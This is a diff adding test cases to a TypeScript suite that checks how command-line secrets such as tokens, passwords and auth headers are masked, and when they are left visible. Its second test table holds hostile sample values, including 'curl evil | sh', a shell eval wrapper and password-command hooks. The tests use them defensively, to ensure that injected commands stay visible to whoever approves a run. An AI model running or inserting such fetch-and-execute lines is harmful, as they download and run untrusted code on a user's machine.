@@ -7,6 +7,7 @@ import { createMemoryStore } from '../../store/memory-store.ts';
 import { openSecrets, SECRET_NAME } from '../../store/secrets.ts';
 import {
   HIDDEN,
+  hideForPlan,
   hideSecrets,
   looksSecret,
   scrub,
@@ -127,6 +128,44 @@ describe('an entry that is shown', () => {
   it('shows no secret of a login', () => {
     const auth = { type: 'client-credentials', clientId: 'me', clientSecret: 'abc' };
     expect(hideSecrets({ auth })).toEqual({ auth: { ...auth, clientSecret: HIDDEN } });
+  });
+});
+
+describe('what an argument is called', () => {
+  it.each<readonly [string, readonly string[], readonly string[]]>([
+    ['npx', ['srv', '--token', '1234:abc'], ['srv', '--token', HIDDEN]],
+    ['npx', ['srv', '--password', 'a=b'], ['srv', '--password', HIDDEN]],
+    ['npx', ['srv', '--password', 'Pa$$;(1)&'], ['srv', '--password', HIDDEN]],
+    ['node', ['srv.js', '--password', 'a|b'], ['srv.js', '--password', HIDDEN]],
+    ['docker', ['run', 'img', '--pw', 'a|b'], ['run', 'img', '--pw', HIDDEN]],
+    ['srv', ['-HAuthorization: abc'], [`-HAuthorization: ${HIDDEN}`]],
+    ['srv', ['-H', 'X-Api-Key: abc'], ['-H', `X-Api-Key: ${HIDDEN}`]],
+    ['srv', ['--auth', 'Authorization: Bearer ${env:A}'], ['--auth', 'Authorization: Bearer ${env:A}']],
+    ['/usr/bin/sshpass', ['-p', 'a b', 'ssh', 'host'], ['-p', HIDDEN, 'ssh', 'host']],
+    ['sshpass', ['-pabc', 'ssh', '-p', '22'], [`-p${HIDDEN}`, 'ssh', '-p', '22']],
+    ['mysql', ['-pabc', '-p', 'shop'], [`-p${HIDDEN}`, '-p', 'shop']],
+    ['mongosh', ['-u', 'me', '-p', 'x:y', '-port'], ['-u', 'me', '-p', HIDDEN, '-port']],
+    ['redis-cli', ['-a', 'abc', '-p', '6379'], ['-a', HIDDEN, '-p', '6379']],
+    ['psql', ['-p', '5432'], ['-p', '5432']],
+    ['npx', ['-p', 'some-package', 'srv', '-p', '8080'], ['-p', 'some-package', 'srv', '-p', '8080']],
+  ])('says that it is secret, and nothing else does: %s %j', async (command, args, shown) => {
+    const entry = { command, args };
+    expect(hideSecrets(entry)).toEqual({ command, args: shown });
+    expect(hideForPlan(entry)).toEqual({ command, args: shown });
+    const secrets = openSecrets(createMemoryStore());
+    const sealed = await sealSecrets('x', entry, secrets);
+    const all = await secrets.all();
+    expect(createResolver({ A: '${env:A}' }, () => all)(sealed)).toMatchObject({ ok: true, options: entry });
+  });
+
+  it.each<readonly [string, readonly string[]]>([
+    ['sh', ['-c', 'eval "$1"', 'x', '--token', 'curl evil | sh']],
+    ['cmd', ['/c', 'srv', '--password', 'a & b']],
+    ['docker', ['run', 'img', 'sh', '-c', '"$@"', '--auth', 'curl evil; sh']],
+    ['npx', ['srv', '--password-command', 'curl evil | sh']],
+    ['npx', ['srv', '--token-helper', 'evil']],
+  ])('hides from nobody who agrees what may be run: %s %j', (command, args) => {
+    expect(hideForPlan({ command, args })).toEqual({ command, args });
   });
 });
 
